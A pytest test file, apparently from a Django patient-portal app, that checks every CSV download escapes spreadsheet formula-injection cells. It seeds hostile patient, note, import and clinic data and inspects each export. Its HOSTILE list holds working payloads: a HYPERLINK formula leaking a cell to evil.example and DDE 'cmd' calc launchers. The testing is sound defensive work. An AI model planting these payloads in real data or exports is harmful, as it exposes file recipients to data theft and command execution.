"""Every CSV the application produces escapes cells a spreadsheet would run as formulas.

The kind of hole is a CSV written without the one writer
(portal_adoption/csv_export.py), so the tests walk both the source (nobody
else calls csv.writer) and the URL conf: every page, by GET and by POST, with
hostile names, notes, records and locations stored, and every answer that is
a CSV file is read cell by cell.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy

from messaging.services import Inbound, message_close, message_receive
from metrics.models import MonthlyRollup, ScopeKind
from patients.feed_import import events_import
from patients.models import Channel, EventSource, EventType
from portal_adoption.csv_export import FORMULA_STARTS, csv_cell, csv_text
from portal_adoption.roles import Role
from tests.factories import ActivityEventFactory, LocationFactory, PatientFactory
from tests.portal_adoption.test_role_access import PAGES, make_target

ROOT = Path(__file__).resolve().parents[2]
APPS = ("portal_adoption", "patients", "enrollment", "messaging", "metrics")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# The CSV downloads there are. The walk must find exactly these: a new one is
# checked by the walk too, once hostile data reaches it.
CSV_DOWNLOADS = {
    "messaging:notes",
    "patients:import_rejections_csv",
    "metrics:export_csv",
    "metrics:electronic_access_csv",
}
PERSONA_ORDER = [
    Role.MANAGER,
    Role.NURSE,
    Role.ADMINISTRATOR,
    Role.FRONT_DESK,
    Role.PROVIDER,
    Role.BILLING,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, 3, "-12.50", "+1", "1e-3", "", None, "Rosa"])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_a_lazy_translation_is_written_as_text():
    assert csv_cell(gettext_lazy("Practice")) == "Practice"


@pytest.mark.reads_the_source
def test_no_module_writes_csv_but_the_one_writer():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if writers.search(path.read_text()) and path.name != "csv_export.py"
    ]
    assert offenders == [], "write CSV with portal_adoption/csv_export.py"


# --- The walk ---------------------------------------------------------------------


@pytest.fixture
def hostile_practice(db, nurse):
    """A patient, a chart note, an import's rejected records and a clinic, all hostile."""
    patient = PatientFactory(external_id="-MRN-EVIL", given_name=HOSTILE[0], family_name=HOSTILE[3])
    inbound = Inbound(
        message_id="csv-walk-1",
        patient=patient,
        subject="Question about my results",
        body="Is my result normal?",
        sent_at=timezone.now(),
    )
    message, _created = message_receive(inbound=inbound)
    message_close(message=message, by=nurse, chart_note=HOSTILE[1])
    # Seen today and not given portal access: in the electronic-access list (this year's).
    ActivityEventFactory(patient=patient, type=EventType.VISIT_COMPLETED, channel=Channel.OTHER)
    hostile_record = {
        "event_id": HOSTILE[4],
        "patient_external_id": HOSTILE[2],
        "type": HOSTILE[0],
        "occurred_at": HOSTILE[5],
        "channel": HOSTILE[3],
    }
    report = events_import([(2, hostile_record)], source=EventSource.FEED_CSV)
    place = LocationFactory(code="EVIL", name=HOSTILE[0])
    MonthlyRollup.objects.create(
        month=timezone.localdate().replace(day=1),
        scope_kind=ScopeKind.LOCATION,
        scope_id=place.pk,
        figures={},
    )
    return {"patient": patient, "import": report.run_id}


def _url(name: str, hostile: dict) -> str:
    target = PAGES[name].target
    kwargs = {
        None: {},
        "nursing": {"queue": "nursing"},
        "nursing-noon": {"queue": "nursing", "checkpoint": "noon"},
        "chart": {"figure": "enrollment_rate"},
        "month": {"month": "2026-01"},
        "import": {"pk": hostile["import"]},
        "patient": {"pk": hostile["patient"].pk},
    }.get(target)
    if kwargs is None:
        made = hostile.setdefault("made", {})  # one of each: some records are unique per day
        if target not in made:
            made[target] = make_target(target, hostile["patient"])
        kwargs = {"pk": made[target].pk}
    return reverse(name, kwargs=kwargs)


def _csv_answers(client, personas, hostile) -> dict[str, str]:
    found = {}
    for name, page in sorted(PAGES.items()):
        roles = [role for role in PERSONA_ORDER if role in page.allowed]
        if not roles:
            continue  # integrations only: JSON for machines
        client.force_login(personas[roles[0]])
        for method in ("get", "post"):
            response = getattr(client, method)(_url(name, hostile))
            if response.get("Content-Type", "").startswith("text/csv"):
                body = (
                    b"".join(response.streaming_content) if response.streaming else response.content
                )
                found[name] = body.decode()
    return found


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_csv_download_escapes_every_hostile_cell(client, personas, hostile_practice):
    found = _csv_answers(client, personas, hostile_practice)

    assert set(found) == CSV_DOWNLOADS, "a CSV download appeared or went: update CSV_DOWNLOADS"
    cells = {name: _cells(text) for name, text in found.items()}
    runnable = {
        name: [c for c in found if c.startswith(FORMULA_STARTS) and csv_cell(c) != c]
        for name, found in cells.items()
    }
    assert {name: bad for name, bad in runnable.items() if bad} == {}
    reached = {
        name: any(c.startswith("'") and c[1:] in HOSTILE for c in found)
        for name, found in cells.items()
    }
    assert all(reached.values()), f"the hostile data did not reach every export: {reached}"


def test_the_one_writer_round_trips_what_it_escapes():
    text = csv_text([["name", "amount"], [HOSTILE[5], -3], ["Rosa", "12.50"]])
    assert _cells(text) == ["name", "amount", "'" + HOSTILE[5], "-3", "Rosa", "12.50"]
